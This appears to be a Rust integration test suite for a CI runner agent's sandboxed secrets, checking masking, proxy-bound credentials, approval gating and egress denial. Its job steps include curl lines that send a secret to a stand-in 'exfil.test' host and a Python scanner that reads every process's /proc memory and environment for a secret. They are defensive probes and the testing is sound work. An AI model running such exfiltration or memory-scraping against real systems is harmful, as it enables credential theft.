//! Environments and scoped credentials, end to end (DESIGN.md 7, THREATS.md
//! "Credentials"): real sandboxes, as root, against the tests' own internet.
//!
//! Every secret value is random per test run. The jobs look for values they must not have
//! with a needle they assemble at run time from two halves, so the value itself never
//! appears in a job file, a command line or an environment the job could search by
//! accident; the scanner looks in every process's environment, command line and memory
//! and in the writable places of the filesystem.

use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Output, Stdio};
use std::time::Duration;

use runner_agent_tests::agent::{
    describe, files_under, job_id, random_value, sha256_hex, wait_until, World,
};
use runner_agent_tests::netbed::{NetBed, DNS_IP, ECHO_PATH};
use runner_agent_tests::require_privilege;

/// A step that scans the sandbox for the value `P1` + `P2` (given in the step's env) and
/// prints `LABEL: CLEAN` or `LABEL: FOUND [...]`. It skips only its own process.
fn scan_step(label: &str, value: &str) -> String {
    let (p1, p2) = value.split_at(value.len() / 2);
    format!(
        r#"  - name: scan for {label}
    env: {{ P1: "{p1}", P2: "{p2}" }}
    run: |
      python3 - <<'PY'
      import os
      needle = (os.environ["P1"] + os.environ["P2"]).encode()
      me = os.getpid()
      hits = []
      for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
          if int(pid) == me:
              continue
          for part in ("environ", "cmdline"):
              try:
                  if needle in open(f"/proc/{{pid}}/{{part}}", "rb").read():
                      hits.append(f"{{pid}}/{{part}}")
              except OSError:
                  pass
          try:
              maps = open(f"/proc/{{pid}}/maps").read().splitlines()
              mem = open(f"/proc/{{pid}}/mem", "rb", 0)
          except OSError:
              continue
          for line in maps:
              span, perms = line.split()[:2]
              lo, hi = (int(x, 16) for x in span.split("-"))
              if "r" not in perms or hi - lo > (256 << 20):
                  continue
              try:
                  mem.seek(lo)
                  if needle in mem.read(hi - lo):
                      hits.append(f"{{pid}}/mem " + line)
              except (OSError, ValueError, OverflowError):
                  pass
      for root in ["/run", "/tmp", "/var/tmp", "/dev/shm", "/etc", "/root", "/home",
                   "/workspace", "/var/cache", "/var/log", "/usr/local", "/opt"]:
          for top, dirs, files in os.walk(root):
              for f in files:
                  path = os.path.join(top, f)
                  try:
                      if os.path.islink(path) or not os.path.isfile(path):
                          continue
                      if os.path.getsize(path) > (16 << 20):
                          continue
                      if needle in open(path, "rb").read():
                          hits.append(path)
                  except OSError:
                      pass
      print("{label}:", "FOUND", hits) if hits else print("{label}: CLEAN")
      PY
"#
    )
}

/// Host config of these tests: the test DNS upstream, a `ci` environment with an env and
/// a file secret, a `release` environment gated by claims and approval with a proxy
/// secret bound to api.allowed.test, and a `gated` environment whose approval times out
/// quickly.
fn host_config() -> String {
    format!(
        r#"network:
  upstream_dns: [{DNS_IP}]
environments:
  ci:
    egress:
      mode: enforce
      allow:
        - host: allowed.test
        - host: "*.allowed.test"
        - host: tenant.test
    secrets:
      CI_TOKEN: {{ deliver: env }}
      CI_KEY: {{ deliver: file }}
  release:
    match:
      repositories: [acme/app]
      refs: ["refs/tags/v*"]
      events: [push]
    approval: required
    approval_timeout: 2m
    egress:
      mode: enforce
      allow:
        - host: allowed.test
        - host: "*.allowed.test"
        - host: tenant.test
    secrets:
      RELEASE_TOKEN:
        deliver: proxy
        hosts: [api.allowed.test]
        header: Authorization
        format: "Bearer {{secret}}"
  gated:
    approval: required
    approval_timeout: 2s
    secrets:
      GATED_TOKEN: {{ deliver: env }}
"#
    )
}

/// The bed's CA as PEM, for the agent's `SSL_CERT_FILE` (the proxy verifies upstream
/// servers against it).
fn write_bed_ca(bed: &NetBed, dir: &Path) -> String {
    let path = dir.join("bed-ca.pem");
    std::fs::write(&path, bed.ca_pem()).expect("write CA");
    path.to_string_lossy().into_owned()
}

struct Secrets {
    ci_token: String,
    ci_key: String,
    release_token: String,
    gated_token: String,
}

fn world_with_secrets(bed: &NetBed) -> (World, Secrets) {
    let world = World::in_netns(bed.host_ns(), "", &host_config());
    let ca = write_bed_ca(bed, world.dir.path());
    with_secrets(world.with_agent_env("SSL_CERT_FILE", &ca))
}

/// Sets a fresh random value for every secret of [`host_config`] in `world`.
fn with_secrets(world: World) -> (World, Secrets) {
    let secrets = Secrets {
        // Mixed case: names the job builds from it are recorded lower-cased.
        ci_token: random_value("CiToken"),
        ci_key: random_value("cikey"),
        release_token: random_value("reltoken"),
        gated_token: random_value("gated"),
    };
    world.set_secret("ci", "CI_TOKEN", &secrets.ci_token);
    world.set_secret("ci", "CI_KEY", &secrets.ci_key);
    world.set_secret("release", "RELEASE_TOKEN", &secrets.release_token);
    world.set_secret("gated", "GATED_TOKEN", &secrets.gated_token);
    (world, secrets)
}

/// `runner-agent approve ARGS --config HOST` in `world`.
fn run_approve(world: &World, args: &[&str]) -> Output {
    let config = world.config.to_string_lossy();
    let mut full = vec!["approve"];
    full.extend_from_slice(args);
    full.extend_from_slice(&["--config", &config]);
    world.command(&full).output().expect("runner-agent approve")
}

/// Runs `job` in `world` with `claims`, approving it once it waits when `approve` is set.
fn run_with_claims(world: &World, job: &Path, claims: &[&str], approve: bool) -> Output {
    let mut child = world.spawn_with(job, claims);
    if approve {
        let mut waiting = None;
        let asked = wait_until(Duration::from_secs(30), || {
            if matches!(child.try_wait(), Ok(Some(_))) {
                return true;
            }
            let out = run_approve(world, &[]);
            waiting = String::from_utf8_lossy(&out.stdout)
                .split_whitespace()
                .find(|w| w.starts_with("j-"))
                .map(str::to_owned);
            waiting.is_some()
        });
        let Some(id) = waiting.filter(|_| asked) else {
            let _ = child.kill();
            let output = child.wait_with_output().expect("run");
            panic!("the job never asked for approval\n{}", describe(&output));
        };
        let out = run_approve(world, &[&id]);
        assert!(out.status.success(), "{}", describe(&out));
    }
    child.wait_with_output().expect("run")
}

/// The record of the job that `output` announced, read from its own directory under
/// state_dir/jobs. It must be the only record there: the callers' worlds have run no
/// other job that leaves one, so a second record would be a stray.
fn job_record(world: &World, output: &Output) -> serde_json::Value {
    let id = job_id(&String::from_utf8_lossy(&output.stderr))
        .unwrap_or_else(|| panic!("no job id announced\n{}", describe(output)));
    let dir = runner_agent::record::job_dir(&world.state_dir, &id);
    let records: Vec<_> = files_under(&world.state_dir.join("jobs"))
        .into_keys()
        .filter(|path| path.ends_with("record.json"))
        .collect();
    assert_eq!(records, [dir.join("record.json")], "{}", describe(output));
    let bytes = std::fs::read(dir.join("record.json")).expect("record");
    let record: serde_json::Value = serde_json::from_slice(&bytes).expect("json");
    assert_eq!(record["job"], id.as_str(), "{record:#}");
    record
}

#[test]
fn a_ci_job_gets_its_own_secrets_masked_and_nothing_of_release() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let (world, secrets) = world_with_secrets(&bed);
    let job = world.job(
        "ci.yaml",
        &format!(
            r#"name: ci-scope
environment: ci
steps:
  - name: env and file delivery
    run: |
      printf %s "$CI_TOKEN" | sha256sum | cut -c1-64 | sed 's/^/ENV-SHA=/'
      sha256sum /run/secrets/CI_KEY | cut -c1-64 | sed 's/^/FILE-SHA=/'
      stat -c 'FILE-MODE=%a %U' /run/secrets/CI_KEY
      echo "FILE-VAR=$CI_KEY_FILE"
      if echo x > /run/secrets/CI_KEY 2>/dev/null; then echo FILE-WRITABLE; fi
      awk '$5 == "/run/secrets" {{ for (i = 7; $i != "-"; i++); print "SECRETS-MOUNT=" $(i + 1), $6 }}' /proc/self/mountinfo
      # The job is root in its sandbox, yet the mount is not its to take away or reopen.
      if umount /run/secrets 2>/tmp/umount.err; then echo SECRETS-UNMOUNTED; fi
      sed 's/^/UMOUNT-REFUSED=/' /tmp/umount.err
      if mount -o remount,rw /run/secrets 2>/tmp/remount.err; then echo SECRETS-REMOUNTED; fi
      sed 's/^/REMOUNT-REFUSED=/' /tmp/remount.err
      if echo x > /run/secrets/CI_KEY 2>/dev/null; then echo FILE-WRITABLE-AFTER; fi
      sha256sum /run/secrets/CI_KEY | cut -c1-64 | sed 's/^/FILE-SHA-AFTER=/'
      awk '$5 == "/run/secrets" {{ for (i = 7; $i != "-"; i++); print "SECRETS-MOUNT-AFTER=" $(i + 1), $6 }}' /proc/self/mountinfo
      echo "PRINTED=$CI_TOKEN"
      printf %s "$CI_TOKEN" | base64 | sed 's/^/B64=/'
  - name: a secret sent out as a name and a path is denied and masked in the audit log
    run: |
      curl -s -m 5 -o /dev/null "http://$CI_TOKEN.exfil.test/" || true
      curl -s -m 5 -o /dev/null "http://allowed.test:81/?t=$CI_TOKEN" || true
  - name: no core dump can carry the environment out
    run: |
      python3 -c 'import resource; print("CORE-LIMIT", resource.getrlimit(resource.RLIMIT_CORE))'
      python3 -c 'import resource; resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)); print("CORE-RAISED")' || true
  - name: release credential through the proxy
    run: |
      curl -sS -k -o /dev/null -H 'X-Probe: ci' https://api.allowed.test/ci-probe && echo PROBE-DONE
{}{}{}"#,
            scan_step("release", &secrets.release_token),
            scan_step("own", &secrets.ci_token),
            scan_step("key", &secrets.ci_key)
        ),
    );
    let (output, events) = world.run_audited(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(
        stdout.contains(&format!("ENV-SHA={}", sha256_hex(&secrets.ci_token))),
        "{}",
        describe(&output)
    );
    assert!(
        stdout.contains(&format!("FILE-SHA={}", sha256_hex(&secrets.ci_key))),
        "{}",
        describe(&output)
    );
    assert!(
        stdout.contains("FILE-MODE=400 root"),
        "{}",
        describe(&output)
    );
    assert!(!stdout.contains("FILE-WRITABLE"), "{}", describe(&output));
    // /run/secrets is a read-only tmpfs that the job can neither unmount nor remount: both
    // attempts reached mount(8) and were refused, and the file is there, unchanged and still
    // not writable (FILE-WRITABLE above covers FILE-WRITABLE-AFTER), after.
    assert!(
        stdout.contains("\nSECRETS-MOUNT=tmpfs ro,"),
        "{}",
        describe(&output)
    );
    for (done, refused) in [
        ("SECRETS-UNMOUNTED", "UMOUNT-REFUSED=umount: /run/secrets:"),
        ("SECRETS-REMOUNTED", "REMOUNT-REFUSED=mount: /run/secrets:"),
    ] {
        assert!(!stdout.contains(done), "{done}\n{}", describe(&output));
        assert!(stdout.contains(refused), "{refused}\n{}", describe(&output));
    }
    assert!(
        stdout.contains("\nSECRETS-MOUNT-AFTER=tmpfs ro,"),
        "{}",
        describe(&output)
    );
    assert!(
        stdout.contains(&format!("FILE-SHA-AFTER={}", sha256_hex(&secrets.ci_key))),
        "{}",
        describe(&output)
    );
    assert!(
        stdout.contains("CORE-LIMIT (1, 1)"),
        "{}",
        describe(&output)
    );
    assert!(!stdout.contains("CORE-RAISED"), "{}", describe(&output));
    // Masked: the value and its base64 form never reach the output.
    assert!(stdout.contains("PRINTED=***"), "{}", describe(&output));
    assert!(stdout.contains("B64=***"), "{}", describe(&output));
    for value in [&secrets.ci_token, &secrets.ci_key, &secrets.release_token] {
        assert!(!stdout.contains(value.as_str()), "{}", describe(&output));
    }
    // Release's secret is nowhere in the ci sandbox, and the proxy added nothing.
    assert!(stdout.contains("PROBE-DONE"), "{}", describe(&output));
    assert!(stdout.contains("release: CLEAN"), "{}", describe(&output));
    // The scanner finds what is there: its own environment secret, in the environment and
    // in the memory of the step's shell, and the file secret by walking the filesystem. A
    // CLEAN above means something only when each of these ways of looking works.
    assert!(stdout.contains("own: FOUND"), "{}", describe(&output));
    assert!(stdout.contains("/environ"), "{}", describe(&output));
    let scan_line = |label: &str| {
        stdout
            .lines()
            .find(|l| l.starts_with(&format!("{label}: ")))
            .unwrap_or_default()
    };
    let own = scan_line("own");
    assert!(
        own.starts_with("own: FOUND") && own.contains("/environ'") && own.contains("/mem "),
        "{own}\n{}",
        describe(&output)
    );
    let key = scan_line("key");
    assert!(
        key.starts_with("key: FOUND") && key.contains("'/run/secrets/CI_KEY'"),
        "{key}\n{}",
        describe(&output)
    );
    let hits = bed.web_hits();
    let probe = hits
        .iter()
        .find(|h| h.path == "/ci-probe")
        .expect("the probe reached the server");
    assert!(probe.header_values("authorization").is_empty(), "{probe:?}");
    for event in &events {
        assert!(!event.to_string().contains(&secrets.release_token));
        assert!(!event.to_string().contains(&secrets.ci_token));
    }
    // The exfiltration attempts were recorded, with the value masked.
    assert!(
        events
            .iter()
            .any(|e| e["verdict"] == "deny" && e["host"] == "***.exfil.test"),
        "{events:#?}"
    );
    assert!(
        events.iter().any(|e| e["verdict"] == "deny"
            && e["host"] == "allowed.test"
            && e["path"].as_str().is_some_and(|p| p.contains("t=***"))),
        "{events:#?}"
    );
    assert_no_plaintext(&world, &secrets);
}

/// No file the agent keeps (state_dir: store, records, logs; run_dir: live state and
/// scratch) contains a value in any form the agent masks: raw, base64 (both alphabets,
/// every alignment), percent-encoded or JSON-escaped.
fn assert_no_plaintext(world: &World, secrets: &Secrets) {
    let forms: Vec<_> = [
        &secrets.ci_token,
        &secrets.ci_key,
        &secrets.release_token,
        &secrets.gated_token,
    ]
    .into_iter()
    .flat_map(|value| {
        let mut forms = runner_agent::mask::forms(value.as_bytes());
        // Named here too, not only through the masker's own list: host names built from
        // a value are recorded lower-cased.
        forms.push(zeroize::Zeroizing::new(
            value.to_ascii_lowercase().into_bytes(),
        ));
        forms
    })
    .collect();
    for dir in [&world.state_dir, &world.run_dir] {
        for (path, bytes) in files_under(dir) {
            for form in &forms {
                assert!(
                    !bytes.windows(form.len()).any(|w| w == &form[..]),
                    "{} found in {}",
                    String::from_utf8_lossy(form),
                    path.display()
                );
            }
        }
    }
}

#[test]
fn a_proxy_credential_reaches_only_its_host_and_never_the_sandbox() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let (world, secrets) = world_with_secrets(&bed);
    let job = world.job(
        "release.yaml",
        &format!(
            r#"name: release-proxy
environment: release
steps:
  - name: bound host, through CONNECT, own header overwritten
    run: |
      curl -fsS -o /dev/null -H 'Authorization: Bearer job-own-value' https://api.allowed.test/bound-connect && echo OK-CONNECT
  - name: bound host, ignoring the proxy (transparent TLS)
    run: |
      curl -fsS -o /dev/null --noproxy '*' -H 'authorization: job-own-2' https://api.allowed.test/bound-transparent && echo OK-TRANSPARENT
  - name: bound host over plain HTTP
    run: |
      curl -fsS -o /dev/null http://api.allowed.test/bound-plain && echo OK-PLAIN
  - name: not bound, resembling and same-address hosts
    run: |
      curl -sS -o /dev/null -k -H 'Authorization: Bearer job-own-3' https://allowed.test/unbound-parent || true
      curl -sS -o /dev/null -k https://deep.api.allowed.test/unbound-child || true
      curl -sS -o /dev/null -k https://tenant.test/unbound-tenant || true
      curl -sS -o /dev/null -k --noproxy '*' --connect-to tenant.test:443:api.allowed.test:443 https://tenant.test/unbound-fronted || true
      echo OK-UNBOUND
  - name: the bound host echoes the request headers back into the sandbox
    run: |
      curl -fsS --compressed -D /workspace/echo-head.txt -o /workspace/echo-body.txt https://api.allowed.test{ECHO_PATH}
      # No early exit: the scan below runs either way and must find nothing.
      if grep -qiF 'x-echo-authorization: {stars}' /workspace/echo-head.txt &&
         grep -qF 'authorization: {stars}' /workspace/echo-body.txt; then
        echo OK-ECHO-SCRUBBED
      fi
{scan}"#,
            stars = "*".repeat("Bearer ".len() + secrets.release_token.len()),
            scan = scan_step("credential", &secrets.release_token)
        ),
    );
    let claims = [
        "--repository",
        "acme/app",
        "--ref",
        "refs/tags/v1.2.0",
        "--event",
        "push",
    ];
    let output = run_with_claims(&world, &job, &claims, true);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    for mark in [
        "OK-CONNECT",
        "OK-TRANSPARENT",
        "OK-PLAIN",
        "OK-UNBOUND",
        "OK-ECHO-SCRUBBED",
        "credential: CLEAN",
    ] {
        assert!(stdout.contains(mark), "{mark}\n{}", describe(&output));
    }
    let expected = format!("Bearer {}", secrets.release_token);
    let hits = bed.web_hits();
    let auth_of = |path: &str| -> Vec<String> {
        hits.iter()
            .filter(|h| h.path == path)
            .flat_map(|h| h.header_values("authorization"))
            .map(str::to_owned)
            .collect()
    };
    for path in [
        "/bound-connect",
        "/bound-transparent",
        "/bound-plain",
        ECHO_PATH,
    ] {
        assert_eq!(auth_of(path), vec![expected.clone()], "{path}: {hits:?}");
    }
    assert_eq!(
        auth_of("/unbound-parent"),
        vec!["Bearer job-own-3".to_owned()]
    );
    for path in ["/unbound-child", "/unbound-tenant", "/unbound-fronted"] {
        assert!(auth_of(path).is_empty(), "{path}: {hits:?}");
    }
    // The record names what was released, by fingerprint, with the approval.
    let record = job_record(&world, &output);
    assert_eq!(record["environment"], "release");
    assert_eq!(record["claims"]["repository"], "acme/app");
    assert_eq!(record["approval"]["outcome"], "approved");
    assert_eq!(record["secrets"][0]["name"], "RELEASE_TOKEN");
    assert!(record["secrets"][0]["fingerprint"]
        .as_str()
        .is_some_and(|f| !f.is_empty()));
    assert_eq!(record["status"], "succeeded");
    assert_no_plaintext(&world, &secrets);
}

#[test]
fn unapproved_and_mismatched_jobs_get_nothing() {
    require_privilege!();
    // Every job here is refused before it gets a sandbox: no network to reach is needed.
    let (world, secrets) = with_secrets(World::new("", &host_config()));
    let marker = random_value("ran");
    let gated = world.job(
        "gated.yaml",
        &format!("name: gated\nenvironment: gated\nsteps:\n  - run: echo {marker}\n"),
    );
    // Nobody approves: refused after the timeout, nothing ran, nothing was created.
    let started = std::time::Instant::now();
    let output = run_with_claims(&world, &gated, &[], false);
    assert_eq!(output.status.code(), Some(2), "{}", describe(&output));
    assert!(started.elapsed() >= Duration::from_secs(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("not approved within 2s"),
        "{}",
        describe(&output)
    );
    assert!(!String::from_utf8_lossy(&output.stdout).contains(&marker));
    assert!(world.runner_records().is_empty());
    let record = job_record(&world, &output);
    assert_eq!(record["environment"], "gated");
    assert_eq!(record["approval"]["outcome"], "timed out");
    assert_eq!(record["status"], "refused");
    assert_eq!(record["secrets"], serde_json::json!([]));

    // Claims that do not match: refused at once with the failing field.
    let release = world.job(
        "release.yaml",
        &format!("name: rel\nenvironment: release\nsteps:\n  - run: echo {marker}\n"),
    );
    for (claims, field) in [
        (
            vec![
                "--repository",
                "acme/app",
                "--ref",
                "refs/heads/main",
                "--event",
                "push",
            ],
            "refs: `refs/heads/main` matches none of `refs/tags/v*`",
        ),
        (
            vec![
                "--repository",
                "evil/app",
                "--ref",
                "refs/tags/v1",
                "--event",
                "push",
            ],
            "repositories: `evil/app`",
        ),
        (
            vec![
                "--repository",
                "acme/app",
                "--ref",
                "refs/tags/v1/x",
                "--event",
                "push",
            ],
            "refs: `refs/tags/v1/x`",
        ),
        (
            vec!["--repository", "acme/app", "--ref", "refs/tags/v1"],
            "events: the job gave no --event claim",
        ),
    ] {
        let output = run_with_claims(&world, &release, &claims, false);
        assert_eq!(output.status.code(), Some(2), "{}", describe(&output));
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(&format!("do not match environment `release`: {field}")),
            "{field}: {}",
            describe(&output)
        );
        assert!(!String::from_utf8_lossy(&output.stdout).contains(&marker));
    }
    let none_waiting = run_approve(&world, &[]);
    assert!(String::from_utf8_lossy(&none_waiting.stdout).contains("no job is waiting"));
    assert_no_plaintext(&world, &secrets);
}

#[test]
fn approval_cli_refuses_what_is_not_waiting() {
    require_privilege!();
    let world = World::new("", &host_config());
    for (args, code, message) in [
        (&["nonsense"][..], 64, "is not a job id"),
        (
            &["j-01JD3M0Q8V5X6W7Y8Z9A0B1C2D"],
            1,
            "no job j-01JD3M0Q8V5X6W7Y8Z9A0B1C2D is waiting",
        ),
        (&["--reject"], 64, "--reject needs the id"),
    ] {
        let output = run_approve(&world, args);
        assert_eq!(output.status.code(), Some(code), "{}", describe(&output));
        assert!(
            String::from_utf8_lossy(&output.stderr).contains(message),
            "{}",
            describe(&output)
        );
    }
}

#[test]
fn a_job_whose_secret_is_not_set_does_not_start() {
    require_privilege!();
    let world = World::new("", &host_config());
    let job = world.job(
        "ci.yaml",
        "name: unset\nenvironment: ci\nsteps:\n  - run: echo SHOULD-NOT-RUN\n",
    );
    let output = world.run(&job);
    assert_eq!(output.status.code(), Some(2), "{}", describe(&output));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("CI_KEY") && stderr.contains("environment `ci`"),
        "{}",
        describe(&output)
    );
    assert!(!String::from_utf8_lossy(&output.stdout).contains("SHOULD-NOT-RUN"));
    assert!(world.runner_records().is_empty());
}

/// Opens `path` for reading from a shell of uid and gid nobody (65534), reading nothing.
fn open_as_nobody(path: &str) -> Output {
    std::process::Command::new("sh")
        .args(["-c", r#"exec 3<"$1""#, "sh", path])
        .uid(65534)
        .gid(65534)
        .stdin(Stdio::null())
        .output()
        .expect("run sh as nobody")
}

#[test]
fn the_proxy_holding_credentials_cannot_be_read_by_its_own_uid() {
    require_privilege!();
    let world = World::new("", "");
    // Long enough for every check below to run while the proxy serves the job.
    let job = world.job("wait.yaml", "name: wait\nsteps:\n  - run: sleep 10\n");
    let mut agent = world.spawn(&job);
    let agent_pid = agent.id();
    let mut proxy = None;
    wait_until(Duration::from_secs(20), || {
        proxy = runner_agent_tests::agent::children_with(agent_pid, "__egress-proxy")
            .into_iter()
            .next();
        proxy.is_some()
    });
    let Some(proxy) = proxy else {
        let _ = agent.kill();
        panic!("no proxy process of the agent appeared");
    };
    // The proxy starts as root and drops to nobody before it serves: wait for the drop (a
    // proxy that never drops fails the assertion below).
    let status_of = || std::fs::read_to_string(format!("/proc/{proxy}/status")).unwrap_or_default();
    // Real, effective, saved and filesystem uid must all be nobody (a half drop that keeps
    // a saved uid of 0 can go back to root), and so must the gids.
    let is_nobody = |status: &str| {
        ["Uid:", "Gid:"].iter().all(|field| {
            status.lines().any(|l| {
                l.strip_prefix(field).is_some_and(|ids| {
                    let ids: Vec<&str> = ids.split_whitespace().collect();
                    ids.len() == 4 && ids.iter().all(|id| *id == "65534")
                })
            })
        })
    };
    wait_until(Duration::from_secs(20), || is_nobody(&status_of()));
    let status = std::fs::read_to_string(format!("/proc/{proxy}/status")).expect("status");
    assert!(is_nobody(&status), "{status}");
    // Another process of uid nobody tries to open the proxy's memory and environment. The
    // open is what the kernel refuses (reading /proc/PID/mem at offset 0 fails for anyone),
    // and only a refusal counts: a proxy that is gone would fail with "No such file".
    for part in ["mem", "environ"] {
        let attempt = open_as_nobody(&format!("/proc/{proxy}/{part}"));
        assert!(
            !attempt.status.success(),
            "{part} readable by uid nobody: {}",
            describe(&attempt)
        );
        assert!(
            String::from_utf8_lossy(&attempt.stderr).contains("Permission denied"),
            "{part}: not refused for lack of permission: {}",
            describe(&attempt)
        );
    }
    // The refusals were about the proxy itself: it is still there, still the agent's.
    assert!(
        std::path::Path::new(&format!("/proc/{proxy}")).exists(),
        "the proxy exited during the attempts"
    );
    assert!(
        runner_agent_tests::agent::processes_with("__egress-proxy").contains(&proxy),
        "pid {proxy} is no longer the proxy"
    );
    assert_eq!(
        runner_agent_tests::agent::parent_of(proxy),
        Some(agent_pid),
        "proxy {proxy} is no longer the agent's"
    );
    assert!(is_nobody(&status_of()), "{}", status_of());
    // The same opens succeed against an ordinary (dumpable) process of uid nobody: what
    // protects the proxy is its own state, not the way the attempt is made. (Where Yama's
    // ptrace_scope is above 0, a process of the same uid that is not an ancestor cannot
    // open another's memory at all, and this control fails: the check above then proves
    // nothing about the proxy.)
    let mut control = std::process::Command::new("sleep")
        .arg("30")
        .uid(65534)
        .gid(65534)
        .stdin(Stdio::null())
        .spawn()
        .expect("spawn sleep as nobody");
    let control_pid = control.id();
    let opened: Vec<(&str, Output)> = ["mem", "environ"]
        .into_iter()
        .map(|part| (part, open_as_nobody(&format!("/proc/{control_pid}/{part}"))))
        .collect();
    let _ = control.kill();
    let _ = control.wait();
    for (part, attempt) in opened {
        assert!(
            attempt.status.success(),
            "{part} of a dumpable process of uid nobody not openable by uid nobody: {}",
            describe(&attempt)
        );
    }
    let output = agent.wait_with_output().expect("agent");
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
}
